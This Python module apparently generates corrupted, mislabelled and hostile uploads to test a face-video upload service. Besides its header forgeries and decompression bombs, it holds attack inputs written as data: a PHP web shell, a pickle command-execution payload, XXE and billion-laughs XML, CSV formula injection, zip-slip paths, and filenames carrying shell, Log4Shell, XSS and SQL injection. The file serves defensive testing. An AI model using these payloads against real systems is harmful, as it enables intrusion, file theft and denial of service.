"""Broken, lying and foreign uploads, made from small clips: the same ones from the same seed."""

from __future__ import annotations

import gzip
import io
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
from PIL import Image

from encoding import has_encoder, write_clip, write_sound
from portrait import portrait, pulsing

Maker = Callable[[bytes, np.random.Generator], bytes]


@dataclass(frozen=True)
class Upload:
    """What somebody sends.

    name: of the case, unique. filename: as the client claims it. hopeless: nothing in it can be
    measured, so that it must be refused; otherwise a recording is as good.
    """

    name: str
    filename: str
    content: bytes
    hopeless: bool = False


def generate(seed: int = 0) -> list[Upload]:
    """At least 300 uploads, each with a name of its own, none above 1 MB."""
    originals = _originals()
    cases = [
        *_truncated(originals),
        *_altered(originals, seed),
        *_foreign(),
        *_bombs(),
        *_huge(originals),
        *_without_frames(originals),
        *_polyglots(originals),
        *_lies(originals),
        *_names(originals["faststart.mp4"]),
    ]
    assert len({case.name for case in cases}) == len(cases)
    return cases


# --- clips of a face, whole -----------------------------------------------------------------


def _originals() -> dict[str, bytes]:
    frames = list(pulsing(np.arange(18) / 15, size=128))
    with tempfile.TemporaryDirectory() as folder:
        base = Path(folder)

        def clip(name: str, codec: str, **options: object) -> bytes:
            return write_clip(base / name, frames, 15, codec, **options).read_bytes()

        made = {
            "faststart.mp4": clip("a.mp4", "libx264", faststart=True, rotation=90, audio=True),
            "tail.mp4": clip("b.mp4", "libx264"),
            "mpeg4.mp4": clip("c.mp4", "mpeg4", faststart=True),
            "vp9.mp4": clip("d.mp4", "libvpx-vp9", faststart=True),
            "mjpeg.mov": clip("a.mov", "mjpeg", faststart=True),
            "h264.mkv": clip("a.mkv", "libx264", metadata={"comment": "SIMULATED"}),
            "vp8.webm": clip("a.webm", "libvpx", audio=True),
            "vp9.webm": clip("b.webm", "libvpx-vp9"),
            "mjpeg.avi": clip("a.avi", "mjpeg"),
            "mpeg4.avi": clip("b.avi", "mpeg4"),
        }
        if has_encoder("libx265"):
            made["hevc.mov"] = clip("b.mov", "libx265", faststart=True)
    still = Image.fromarray(portrait(200))
    made["face.png"] = _saved(still, "PNG")
    made["face.jpg"] = _saved(still, "JPEG", quality=90)
    alpha = still.convert("RGBA")
    alpha.putalpha(Image.linear_gradient("L").resize(still.size))
    made["region.png"] = _saved(alpha, "PNG")
    return made


def _saved(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


# --- cut and altered ------------------------------------------------------------------------


def _truncated(originals: dict[str, bytes]) -> Iterator[Upload]:
    for name, data in originals.items():
        for share in (0.02, 0.2, 0.5, 0.8, 0.99):
            yield Upload(f"truncated-{share}-{name}", name, data[: int(len(data) * share)])
        yield Upload(f"truncated-16-bytes-{name}", name, data[:16], hopeless=True)
        yield Upload(f"beheaded-{name}", name, data[len(data) // 3 :])


def _altered(originals: dict[str, bytes], seed: int) -> Iterator[Upload]:
    ways: dict[str, Maker] = {
        "one-bit-early": lambda data, rng: _flip(data, rng, 1, 400),
        "bits-early": lambda data, rng: _flip(data, rng, 12, 800),
        "bits-anywhere": lambda data, rng: _flip(data, rng, 10, len(data)),
        "many-bits": lambda data, rng: _flip(data, rng, max(len(data) // 50, 1), len(data)),
        "bits-late": lambda data, rng: data[:-700] + _flip(data[-700:], rng, 12, 700),
        "hole": _hole,
        "noise": _noise,
        "swapped": _swapped,
        "repeated": lambda data, _: data + data,
        "sizes-of-ff": _ones,
    }
    for name, data in originals.items():
        for way, make in ways.items():
            case = f"{way}-{name}"
            # Of its own, so that a clip whose size changes does not change the other cases.
            rng = np.random.default_rng([seed, zlib.crc32(case.encode())])
            yield Upload(case, name, make(data, rng))


def _flip(data: bytes, rng: np.random.Generator, count: int, within: int) -> bytes:
    changed = bytearray(data)
    for at in rng.integers(0, min(within, len(data)), count):
        changed[at] ^= 1 << int(rng.integers(8))
    return bytes(changed)


def _place(data: bytes, rng: np.random.Generator) -> tuple[int, int]:
    size = max(len(data) // 10, 1)
    return int(rng.integers(0, len(data) - size)), size


def _hole(data: bytes, rng: np.random.Generator) -> bytes:
    at, size = _place(data, rng)
    return data[:at] + bytes(size) + data[at + size :]


def _noise(data: bytes, rng: np.random.Generator) -> bytes:
    at, size = _place(data, rng)
    return data[:at] + rng.bytes(size) + data[at + size :]


def _swapped(data: bytes, _: np.random.Generator) -> bytes:
    third = len(data) // 3
    return data[:third] + data[2 * third :] + data[third : 2 * third]


def _ones(data: bytes, rng: np.random.Generator) -> bytes:
    at = int(rng.integers(12, 600))
    return data[:at] + b"\xff" * 8 + data[at + 8 :]


# --- other kinds of file --------------------------------------------------------------------


def _foreign() -> Iterator[Upload]:
    picture = Image.fromarray(portrait(64))
    laughs = '<!DOCTYPE z [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "&{a};&{a};&{a};&{a};&{a};&{a};&{a};&{a};">'
        for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    files: dict[str, bytes] = {
        "empty.mp4": b"",
        "one-byte.mp4": b"\0",
        "newline.mp4": b"\n",
        "zeros.mp4": bytes(50_000),
        "ones.mp4": b"\xff" * 50_000,
        "noise.mp4": np.random.default_rng(1).bytes(50_000),
        "letter.txt": b"Dear doctor,\n" * 100,
        "bom.txt": b"\xff\xfeD\0e\0a\0r\0",
        "page.html": b"<!doctype html><script>alert(1)</script>" * 20,
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "laughs.xml": f"<?xml version='1.0'?>{laughs}]><z>&i;</z>".encode(),
        "entity.xml": b"<!DOCTYPE z [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><z>&x;</z>",
        "paper.pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
        "program.exe": b"MZ" + bytes(500),
        "program.elf": b"\x7fELF\x02\x01\x01" + bytes(500),
        "class.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100),
        "script.sh": b"#!/bin/sh\ntouch pwned\n",
        "script.php": b"<?php system($_GET['c']); ?>",
        "object.pickle": b"cos\nsystem\n(S'touch pwned'\ntR.",
        "array.npy": b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
        "table.csv": b"participant_id,clip\n=cmd|' /C calc'!A0,x\n",
        "data.json": b'{"a": ' * 5000,
        "base.sqlite": b"SQLite format 3\0" + bytes(4080),
        "archive.gz": gzip.compress(b"x" * 1000, mtime=0),
        "archive.tar": b"../../etc/passwd".ljust(257, b"\0") + b"ustar\x0000" + bytes(247),
        "list.m3u8": b"#EXTM3U\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
        "list.m3u": b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://127.0.0.1:9/a.ts\n",
        "list.ffconcat": b"ffconcat version 1.0\nfile /etc/passwd\n",
        "session.sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nm=video 9 RTP/AVP 96\n",
        "list.mpd": b"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'/>",
        "subtitles.srt": b"1\n00:00:00,000 --> 00:00:09,000\nHello\n",
        "subtitles.vtt": b"WEBVTT\n\n00:00.000 --> 00:09.000\nHello\n",
        "picture.gif": _saved(picture, "GIF"),
        "picture.bmp": _saved(picture, "BMP"),
        "picture.tiff": _saved(picture, "TIFF"),
        "picture.webp": _saved(picture, "WEBP"),
        "picture.ppm": _saved(picture, "PPM"),
        "picture.ico": _saved(picture, "ICO"),
        "picture.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400),
        "picture.psd": b"8BPS\0\x01" + bytes(400),
        "movie.swf": b"FWS\x09" + bytes(400),
        "movie.flv": b"FLV\x01\x05\0\0\0\x09\0\0\0\0" + bytes(400),
        "movie.ts": (b"G@\0\x10" + bytes(184)) * 20,
        "movie.y4m": b"YUV4MPEG2 W16 H16 F25:1 Ip A1:1 C420\nFRAME\n" + bytes(384),
        "movie.mpg": b"\0\0\x01\xba" + bytes(400),
        "song.mid": b"MThd\0\0\0\x06\0\x01\0\x01\0\x60MTrk\0\0\0\x04\0\xff\x2f\0",
    }
    for name, content in files.items():
        yield Upload(f"foreign-{name}", name, content, hopeless=True)
    with tempfile.TemporaryDirectory() as folder:
        for suffix in ("m4a", "wav", "webm", "mkv"):
            sound = write_sound(Path(folder) / f"voice.{suffix}", 0.3).read_bytes()
            yield Upload(f"foreign-voice.{suffix}", f"voice.{suffix}", sound, hopeless=True)


# --- small on disk, large in memory ---------------------------------------------------------


def _chunk(kind: bytes, content: bytes) -> bytes:
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def png(
    width: int, height: int, depth: int, color: int, *extra: bytes, rows: int = 0, fill: int = 0
) -> bytes:
    """A PNG of equal bytes; ``rows`` of them are there, all by default."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color]
    row = b"\0" + bytes([fill]) * ((width * channels * depth + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(rows or height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    palette = _chunk(b"PLTE", bytes(6)) if color == 3 else b""
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(extra) + palette
        + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    )  # fmt: skip


def _bombs() -> Iterator[Upload]:
    zeros = zlib.compress(bytes(60_000_000), 9)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("0.mp4"), bytes(50_000_000), zipfile.ZIP_DEFLATED)
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(16):
            archive.writestr(zipfile.ZipInfo(f"{i}.zip"), inner.getvalue(), zipfile.ZIP_DEFLATED)
    text = _chunk(b"zTXt", b"Comment\0\0" + zeros)
    profile = _chunk(b"iCCP", b"x\0\0" + zeros)
    long_text = _chunk(b"iTXt", b"Comment\0\x01\0\0\0" + zeros)
    many = b"".join(_chunk(b"tEXt", b"k%d\0v" % i) for i in range(20_000))
    files: dict[str, tuple[bytes, bool]] = {
        "zip.zip": (inner.getvalue(), True),
        "nested.zip": (nested.getvalue(), True),
        "zip-as.mp4": (nested.getvalue(), True),
        "gzip.mp4": (gzip.compress(bytes(60_000_000), mtime=0), True),
        "header-60k.png": (png(60_000, 60_000, 8, 6, rows=1), True),
        "header-max.png": (_header_max(), True),
        "gray-400M.png": (png(20_000, 20_000, 1, 0), True),
        "gray-at-the-limit.png": (png(7071, 7071, 1, 0), False),
        "deep-at-the-limit.png": (png(7071, 7071, 16, 0, rows=600), True),
        "deep-whole.png": (png(7071, 7071, 16, 0), False),
        "palette-at-the-limit.png": (png(7071, 7071, 1, 3), False),
        "rgba-at-the-limit.png": (png(7071, 7071, 8, 6, fill=150), False),
        "deep-rgba-at-the-limit.png": (png(7071, 7071, 16, 6, fill=150), False),
        "many-scans.jpg": (_many_scans(1000), True),
        "long-strip.png": (png(1, 50_000_000 // 8, 1, 0), False),
        "wide-strip.png": (png(50_000_000 - 1, 1, 1, 0), False),
        "text.png": (png(64, 64, 8, 2, text), False),
        "profile.png": (png(64, 64, 8, 2, profile), False),
        "unicode-text.png": (png(64, 64, 8, 2, long_text), False),
        "many-texts.png": (png(64, 64, 8, 2, many), False),
        "index.mov": (_compressed_index(60_000_000, zeros), True),
        "index-of-4GB.mov": (_compressed_index(2**32 - 1, zeros), True),
    }
    for name, (content, hopeless) in files.items():
        yield Upload(f"bomb-{name}", name, content, hopeless)


def _many_scans(count: int) -> bytes:
    """A progressive JPEG at the limit of pixels, whose last pass is repeated."""
    data = _saved(Image.new("L", (7000, 7000), 90), "JPEG", progressive=True)
    scan = data[data.rfind(b"\xff\xda") : -2]
    return data[:-2] + scan * (count if len(scan) * count < 900_000 else 900_000 // len(scan))


def _header_max() -> bytes:
    data = bytearray(png(64, 64, 1, 0))
    data[16:24] = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


def box(kind: bytes, *content: bytes) -> bytes:
    """A box of ISO 14496-12."""
    whole = b"".join(content)
    return struct.pack(">I", 8 + len(whole)) + kind + whole


def _compressed_index(claimed: int, packed: bytes) -> bytes:
    method = box(b"dcom", b"zlib")
    data = box(b"cmvd", struct.pack(">I", claimed), packed)
    kind = box(b"ftyp", b"qt  \0\0\0\0qt  ")
    return kind + box(b"moov", box(b"cmov", method, data)) + box(b"mdat", bytes(100))


def mp4(
    samples: int, per_chunk: int, *, chunks: int = 1, duration: int = 1000, size: int = 1,
    width: int = 128, height: int = 128, delta: int = 1, codec: bytes = b"mp4v",
) -> bytes:  # fmt: skip
    """An MP4 whose index says what it is told to, with a few bytes of pictures."""
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    header = box(b"mvhd", bytes(12), struct.pack(">II", 1000, duration), bytes(80))
    track = box(
        b"tkhd", b"\0\0\0\x07", bytes(8), struct.pack(">I", 1), bytes(4),
        struct.pack(">I", duration), bytes(16), matrix,
        struct.pack(">II", width << 16, height << 16),
    )  # fmt: skip
    media = box(b"mdhd", bytes(12), struct.pack(">II", 1000, duration), bytes(4))
    handler = box(b"hdlr", bytes(8), b"vide", bytes(13))
    entry = box(
        codec, bytes(6), b"\0\x01", bytes(16), struct.pack(">HH", width, height),
        struct.pack(">III", 72 << 16, 72 << 16, 0), b"\0\x01", bytes(32), b"\0\x18\xff\xff",
    )  # fmt: skip
    tables = (
        box(b"stsd", bytes(4), struct.pack(">I", 1), entry),
        box(b"stts", bytes(4), struct.pack(">III", 1, samples, delta)),
        box(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, per_chunk, 1)),
        box(b"stsz", bytes(4), struct.pack(">II", size, samples)),
        box(b"stco", bytes(4), struct.pack(">I", chunks), struct.pack(">I", 40) * chunks),
    )
    information = box(b"minf", box(b"vmhd", bytes(12)), box(b"stbl", *tables))
    movie = box(b"moov", header, box(b"trak", track, box(b"mdia", media, handler, information)))
    kind = box(b"ftyp", b"isom\0\0\2\0isommp41")
    return kind + box(b"mdat", bytes(2000)) + movie


# --- sizes that no camera has ---------------------------------------------------------------


def _huge(originals: dict[str, bytes]) -> Iterator[Upload]:
    jpeg = originals["face.jpg"]
    frame = jpeg.find(b"\xff\xc0")
    for width, height in ((65_500, 65_500), (16_000, 16_000), (65_535, 1), (1, 65_535), (0, 0)):
        size = struct.pack(">HH", height, width)
        content = jpeg[: frame + 5] + size + jpeg[frame + 9 :]
        hopeless = width != 1 and height != 1
        yield Upload(f"huge-{width}x{height}.jpg", "huge.jpg", content, hopeless)
        for container in ("mkv", "mov", "avi"):
            packets = [_small_jpeg(), content, content]
            wrapped = _in_container(packets, container, "mjpeg")
            yield Upload(f"huge-frame-{width}x{height}.{container}", f"a.{container}", wrapped)
    big = png(16_000, 16_000, 1, 0)
    deep = png(16_000, 16_000, 16, 6, rows=30)
    for name, packet in (("gray", big), ("deep", deep)):
        for container in ("mov", "avi"):
            wrapped = _in_container([png(64, 64, 8, 2), packet], container, "png")
            yield Upload(f"huge-png-{name}.{container}", f"a.{container}", wrapped)
    for side in (4096, 16_000, 65_535):
        content = mp4(10, 10, width=side, height=side)
        yield Upload(f"huge-index-{side}.mp4", "a.mp4", content, hopeless=True)
    mkv = originals["h264.mkv"]
    width = mkv.find(b"\xb0")
    yield Upload("huge-pixelwidth.mkv", "a.mkv", mkv[: width + 2] + b"\xff\xff" + mkv[width + 4 :])
    vp8 = originals["vp8.webm"]
    start = vp8.find(b"\x9d\x01\x2a")
    for side in (16_383, 0):
        patched = vp8[: start + 3] + struct.pack("<HH", side, side) + vp8[start + 7 :]
        yield Upload(f"huge-vp8-{side}.webm", "a.webm", patched)


def _small_jpeg() -> bytes:
    return _saved(Image.fromarray(portrait(64)), "JPEG", subsampling=2)


def _in_container(packets: list[bytes], container: str, codec: str) -> bytes:
    """Packets as they are, in a container that says 64 x 64."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"a.{container}"
        with av.open(str(path), "w") as output:
            stream = output.add_stream(codec, rate=15)
            stream.width = stream.height = 64
            tick = stream.codec_context.time_base = Fraction(1, 15)
            stream.pix_fmt = "yuvj420p" if codec == "mjpeg" else "rgb24"
            first = av.VideoFrame.from_ndarray(np.zeros((64, 64, 3), np.uint8), format="rgb24")
            first = first.reformat(format=stream.pix_fmt)
            first.pts, first.time_base = 0, tick
            output.mux(stream.encode(first))
            for i, content in enumerate(packets, start=1):
                packet = av.Packet(content)
                packet.stream, packet.pts, packet.dts = stream, i, i
                packet.time_base, packet.is_keyframe = tick, True
                output.mux(packet)
        return path.read_bytes()


# --- no frames, impossible times ------------------------------------------------------------


def _without_frames(originals: dict[str, bytes]) -> Iterator[Upload]:
    fast = originals["faststart.mp4"]
    pictures = fast.find(b"mdat") - 4
    files = {
        "index-only.mp4": fast[:pictures],
        "pictures-only.mp4": fast[pictures:],
        "brand-only.mp4": box(b"ftyp", b"isom\0\0\2\0isommp41"),
        "no-track.mp4": box(b"ftyp", b"isom\0\0\2\0isommp41") + box(b"moov", bytes(8)),
        "no-samples.mp4": mp4(0, 0, chunks=0),
        "of-zeros.mp4": mp4(20, 20, size=100),
        "head.mkv": originals["h264.mkv"][:600],
        "head.webm": originals["vp9.webm"][:500],
        "head.avi": originals["mjpeg.avi"][: originals["mjpeg.avi"].find(b"movi") + 4],
        "no-data.png": b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
        + _chunk(b"IEND", b""),
        "no-scan.jpg": originals["face.jpg"][: originals["face.jpg"].find(b"\xff\xda")],
        "clear.png": png(64, 64, 8, 6),
        "black.png": png(64, 64, 8, 2),
        "one-pixel.png": png(1, 1, 8, 2),
        "one-clear-pixel.png": png(1, 1, 8, 6),
    }
    for name, content in files.items():
        yield Upload(f"no-frames-{name}", name, content, hopeless=True)


def _lies(originals: dict[str, bytes]) -> Iterator[Upload]:
    """Headers that announce more than there is, or what cannot be."""
    files = {
        "100M-samples.mp4": mp4(100_000_000, 100_000_000),
        "170M-samples.mp4": mp4(170_000_000, 170_000_000, size=0),
        "70k-samples-of-one-byte.mp4": mp4(70_000, 70_000),
        "samples-of-2GB.mp4": mp4(100, 100, size=2**31 - 1),
        "many-chunks.mp4": mp4(60_000, 1, chunks=60_000),
        "lasts-forever.mp4": mp4(10, 10, duration=2**32 - 1),
        "no-time.mp4": mp4(10, 10, delta=0),
        "steps-of-2G.mp4": mp4(10, 10, delta=2**31 - 1),
        "endless-box.mp4": originals["faststart.mp4"] + b"\xff\xff\xff\xffmdat",
        "box-of-size-1.mp4": b"\0\0\0\x01ftyp\xff\xff\xff\xff\xff\xff\xff\xffisom" + bytes(50),
        "deep-boxes.mp4": _deep(20_000),
        "endless-ebml.mkv": b"\x1aE\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff" + bytes(200),
        "deep-ebml.mkv": originals["h264.mkv"][:60] + b"\x18\x53\x80\x67\xff" * 10_000,
        "riff-of-4GB.avi": b"RIFF\xff\xff\xff\xffAVI " + originals["mjpeg.avi"][12:],
        "idx-of-4GB.avi": originals["mjpeg.avi"].replace(b"idx1", b"idx1\xff\xff\xff\xff"),
    }
    for name, content in files.items():
        yield Upload(f"lie-{name}", name, content)


def _deep(levels: int) -> bytes:
    sizes = range(8 * levels, 0, -8)
    boxes = b"".join(struct.pack(">I", size) + b"moov" for size in sizes)
    return box(b"ftyp", b"isom\0\0\2\0isommp41") + boxes


# --- two things at once ---------------------------------------------------------------------


def _polyglots(originals: dict[str, bytes]) -> Iterator[Upload]:
    fast, jpeg, still = originals["faststart.mp4"], originals["face.jpg"], originals["face.png"]
    script = b"<html><script>alert(document.domain)</script></html>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as members:
        members.writestr(zipfile.ZipInfo("../../evil.sh"), "#!/bin/sh\n")
    head = fast.find(b"moov") - 4
    files = {
        "jpeg-then-mp4.jpg": jpeg + fast,
        "mp4-then-jpeg.mp4": fast + jpeg,
        "png-then-zip.png": still + archive.getvalue(),
        "mp4-then-zip.mp4": fast + archive.getvalue(),
        "zip-then-mp4.zip": archive.getvalue() + fast,
        "html-in-mp4.html": fast[:head] + box(b"free", script) + fast[head:],
        "html-then-mp4.html": script + fast,
        "html-in-jpeg.html": jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(script)) + script
        + jpeg[2:],
        "pdf-then-mp4.pdf": b"%PDF-1.7\n" + fast,
        "gif-then-png.gif": b"GIF89a/*" + still,
        "elf-then-mp4.mp4": b"\x7fELF" + fast,
        "mkv-in-mp4.mp4": fast[:head] + box(b"free", originals["h264.mkv"]) + fast[head:],
        "mp4-as.avi": fast,
        "avi-as.png": originals["mjpeg.avi"],
        "png-as.mp4": still,
        "mkv-as.jpg": originals["h264.mkv"],
        "jpeg-named-exe.exe": jpeg,
    }  # fmt: skip
    for name, content in files.items():
        yield Upload(f"polyglot-{name}", name, content)


# --- names ----------------------------------------------------------------------------------

NAMES = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\boot.ini", "/etc/passwd", "//host/a",
    "file:///etc/passwd", "http://127.0.0.1:9/a.mp4", "pipe:0", "concat:a.mp4|b.mp4", "a%03d.mp4",
    "-i.mp4", "--help", "; touch pwned;.mp4", "$(touch pwned).mp4", "`touch pwned`.mp4", "|id",
    "a\x00.mp4", "a\n.mp4", "a\r\nSet-Cookie: x=y\r\n.mp4", "\x1b[2J.mp4", "<script>.mp4",
    "\"><img src=x onerror=alert(1)>.mp4", "' OR 1=1 --.mp4", "{{7*7}}.mp4", "${jndi:ldap://x}.mp4",
    "%2e%2e%2fetc.mp4", "%s%n%x.mp4", "\u202e4pm.exe", "\U0001f600.mp4", "\ufeff.mp4",
    "e\u0301.mp4",
    ".", "..", " ", "", "CON.mp4", "nul", ".htaccess", "x" * 4000 + ".mp4", "a" * 255, "a/b/c.mp4",
)  # fmt: skip


def _names(content: bytes) -> Iterator[Upload]:
    for i, name in enumerate(NAMES):
        yield Upload(f"name-{i:02d}", name, content)
